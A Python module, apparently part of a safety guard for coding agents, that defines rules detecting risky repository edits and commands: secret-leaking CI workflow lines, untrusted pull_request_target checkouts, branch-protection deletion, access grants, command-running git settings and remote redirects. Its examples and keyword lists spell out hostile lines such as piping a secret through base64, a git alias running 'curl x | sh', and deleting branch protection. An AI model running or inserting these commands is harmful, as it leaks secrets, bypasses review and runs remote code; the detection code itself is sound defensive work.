"""Repository security: CI workflows, code owners, branch protection, access to the repository,
and git settings that run commands or send code elsewhere.

Edits are judged by the lines they add or drop (cf_guidance.gates.commands.writes), by any
tool; commands (`gh api` on protection rules, deploy keys, secrets and collaborators; `git
config core.hooksPath`) by the effect model's git, gh and cloud tables.
"""

from __future__ import annotations

from cf_guidance.decision import ASK, DENY
from cf_guidance.gates.commands.effects import findings_for
from cf_guidance.gates.commands.writes import writes_of
from cf_guidance.gates.reasons import finding, rule

TYPE_CHECKING = False
if TYPE_CHECKING:
    from cf_guidance.decision import Finding
    from cf_guidance.gates._base import GateContext
    from cf_guidance.gates.commands.writes import Write

GATE = "repo-security"



RULES = (
    rule("REP001", "ci-secret-exposure", DENY, "A CI workflow change that prints or sends secrets",
       "Denies an edit of a GitHub Actions workflow or action (`.github/workflows/*.yml`, `action.yml`), by any tool, that "
       "adds a line printing or sending a secret: `${{ secrets.X }}` with `echo`, `printf`, `tee`, `base64`, a redirection, "
       "or in the data or URL of `curl`/`wget`; or `toJSON(secrets)` anywhere.",
       "Workflow logs are readable by everyone with read access (for public repositories: everyone); masking is "
       "undone by any encoding.",
       "run: echo ${{ secrets.NPM_TOKEN }} | base64", "env:\n  NPM_TOKEN: ${{ secrets.NPM_TOKEN }}\nrun: npm publish"),
    rule("REP002", "ci-untrusted-code", ASK, "A CI workflow that runs on untrusted triggers or input",
       "Asks before adding `pull_request_target` or `workflow_run` triggers, and `${{ github.event.* }}` fields an outsider "
       "controls (issue and pull request titles and bodies, comments, branch names, commit messages, `github.head_ref`) in a "
       "`run:` script; denies `pull_request_target` together with a checkout of the pull request's head.",
       "These run with the repository's secrets and write token on code or text from a fork.",
       "on: pull_request_target\n...\n- uses: actions/checkout@v4\n  with:\n    ref: ${{ github.event.pull_request.head.sha }}",
       "on: pull_request\n# pass untrusted text through env: and quote it"),
    rule("REP003", "ci-protection-removed", ASK, "A CI workflow that widens its token or drops an environment",
       "Asks before a workflow edit that adds `permissions: write-all` or removes an `environment:` (the deployment "
       "protection rules and reviewers that guard a job).",
       "The token and the environment's approvals are what limit a compromised or mistaken job.",
       "permissions: write-all", "permissions:\n  contents: read"),
    rule("REP004", "protection-change", ASK, "Changing code owners or branch protection",
       "Asks before any edit of a CODEOWNERS file or `.github/settings.yml`, and before changing branch protection, rulesets, "
       "environments or Actions permissions through `gh api`; denies removing them (`-X DELETE .../protection`, "
       "`.../rulesets/N`) and `gh pr merge --admin` (merging past the rules).",
       "These rules decide who must review what reaches the default branch.",
       "gh api -X DELETE repos/org/app/branches/main/protection\ngh pr merge 42 --admin", "gh pr merge 42 --auto --squash"),
    rule("REP005", "access-grant", ASK, "Giving a key, a person, a webhook or a token access",
       "Asks before new deploy keys (`gh repo deploy-key add`), repository or environment secrets (`gh secret set`), account "
       "SSH/GPG keys, collaborators, team or organisation members, webhooks, service account keys and package owners; "
       "denies making the repository public (`gh repo edit --visibility public`, `-F private=false`).",
       "Each is a new way into the repository or its deployments that outlives the session.",
       "gh repo deploy-key add key.pub --allow-write\ngh api -X PUT repos/org/app/collaborators/someone", "# ask the user to grant access"),
    rule("REP006", "git-config-runs-commands", ASK, "A git setting that makes git run a command",
       "Asks before `git config` sets `core.hooksPath`, `core.fsmonitor`, `core.sshCommand`, `core.pager`, `core.editor`, "
       "`core.askPass`, `diff.external`, `filter.*.clean/smudge/process`, `merge.*.driver`, `credential.helper` (other than "
       "git's own helpers), `include.path`/`includeIf.*.path`, `gpg.program`, `alias.*` starting with `!`, and before "
       "`git -c` / `git clone -c` one-shot settings of these whose value is a shell command, or `git push --receive-pack`. "
       "A hooks directory inside the repository (`git config core.hooksPath .husky`, what `husky init` sets) passes.",
       "Every later git command, by the user or a tool, runs it without asking.",
       "git config core.hooksPath /tmp/hooks\ngit config alias.st '!curl x | sh'", "git config alias.st status"),
    rule("REP007", "git-remote-redirect", ASK, "Pointing a remote at another address",
       "Asks before `git remote set-url`, `git config remote.*.url`/`pushurl` and `url.*.insteadOf`/`pushInsteadOf`.",
       "Every later push or fetch goes to the new address, without the user seeing it.",
       "git remote set-url origin https://github.com/someone-else/x.git", "git remote add upstream https://github.com/org/x.git"),
)
_OWN = frozenset(rule.code for rule in RULES)

#: `${{ ... }}` fields of the event that whoever opens an issue or a pull request writes.
_UNTRUSTED = (
    "github.head_ref", "github.event.issue.title", "github.event.issue.body", "github.event.pull_request.title",
    "github.event.pull_request.body", "github.event.pull_request.head.ref", "github.event.pull_request.head.label",
    "github.event.pull_request.head.repo.default_branch", "github.event.comment.body", "github.event.review.body",
    "github.event.review_comment.body", "github.event.discussion.title", "github.event.discussion.body", "github.event.head_commit.message",
    "github.event.head_commit.author.email", "github.event.head_commit.author.name", "github.event.commits", "github.event.pages",
    "github.event.workflow_run.head_branch", "github.event.workflow_run.head_commit.message", "github.event.issue.user.login",
)
_PR_HEAD = ("github.event.pull_request.head.sha", "github.event.pull_request.head.ref", "github.head_ref", "refs/pull/")
_PRINTERS = ("echo ", "printf ", "print(", "tee ", "base64", "xxd", ">>", "> ", "write-output", "console.log", "set -x", "cat <<")
_SENDERS = ("curl ", "wget ", "nc ", "http ", "invoke-webrequest")


def check(ctx: GateContext) -> list[Finding]:
    out = findings_for(ctx, GATE, _OWN)
    for write in writes_of(ctx):
        name = write.name()
        path = write.path.replace("\\", "/")
        if name == "CODEOWNERS" or path.endswith(".github/settings.yml"):
            out.append(finding(GATE, "REP004", ASK, f"{_who(write)} changes {path}, which decides who must review", segment=write.segment, evidence=path))
        elif _workflow(path):
            _workflow_edit(write, path, out)
    return out


def _who(write: Write) -> str:
    return write.cmd.program if write.cmd is not None else write.segment.split(" ", 1)[0]


def _workflow(path: str) -> bool:
    lowered = path.lower()
    if not lowered.endswith((".yml", ".yaml")):
        return False
    return "/.github/workflows/" in "/" + lowered or lowered.rsplit("/", 1)[-1] in ("action.yml", "action.yaml")


def _workflow_edit(write: Write, path: str, out: list[Finding]) -> None:
    added = write.new_lines()
    who = _who(write)
    text = "\n".join(added).lower()
    for line in added:
        lowered = line.lower()
        if "tojson(secrets)" in lowered.replace(" ", ""):
            out.append(finding(GATE, "REP001", DENY, f"{who} adds toJSON(secrets) to {path}: every secret in one string", segment=write.segment, evidence=path))
            break
        if "secrets." in lowered and "${{" in lowered and _exposes(lowered):
            out.append(finding(GATE, "REP001", DENY, f"{who} adds a line to {path} that prints or sends a secret", segment=write.segment, evidence=line.strip()[:120]))
            break
    if "pull_request_target" in text or "workflow_run" in text:
        head = any(marker in text for marker in _PR_HEAD)
        trigger = "pull_request_target" if "pull_request_target" in text else "workflow_run"
        if head and trigger == "pull_request_target":
            out.append(finding(GATE, "REP002", DENY, f"{who} makes {path} check out a fork's code under pull_request_target, with the repository's secrets",
                               segment=write.segment, evidence=path))
        else:
            out.append(finding(GATE, "REP002", ASK, f"{who} adds the {trigger} trigger to {path}: it runs with secrets on events from forks",
                               segment=write.segment, evidence=path))
    for line in added:
        lowered = line.lower()
        if any(field in lowered for field in _UNTRUSTED) and "${{" in lowered and _in_script(line):
            out.append(finding(GATE, "REP002", ASK, f"{who} puts text an outsider writes into a script of {path}", segment=write.segment, evidence=line.strip()[:120]))
            break
    if any("write-all" in line.lower() and "permissions" in line.lower() for line in added):
        out.append(finding(GATE, "REP003", ASK, f"{who} gives the workflow token of {path} every write permission", segment=write.segment, evidence=path))
    if any(_key(line) == "environment" for line in write.dropped_lines()) and not any(_key(line) == "environment" for line in added):
        out.append(finding(GATE, "REP003", ASK, f"{who} removes an environment (its protection rules and reviewers) from {path}",
                           segment=write.segment, evidence=path))


def _exposes(line: str) -> bool:
    """A line with a secret that prints it, or sends it other than in a header."""
    if any(word in line for word in _PRINTERS):
        return True
    if any(word in line for word in _SENDERS):
        at = line.find("secrets.")
        before = line[:at]
        return not ("-h " in before[-60:] or "--header" in before[-60:] or "authorization" in before[-60:])
    return False


def _key(line: str) -> str:
    """The YAML key a line starts with (`- run: x` -> "run"), "" when it is not a mapping line."""
    text = line.strip()
    if text.startswith("- "):
        text = text[2:].lstrip()
    key, colon, _ = text.partition(":")
    return key if colon and key and all(c.isalnum() or c in "_-." for c in key) else ""


def _in_script(line: str) -> bool:
    """A `run:` line, or a line of a script block (not itself a `key: value` mapping line)."""
    key = _key(line)
    return key == "run" or not key
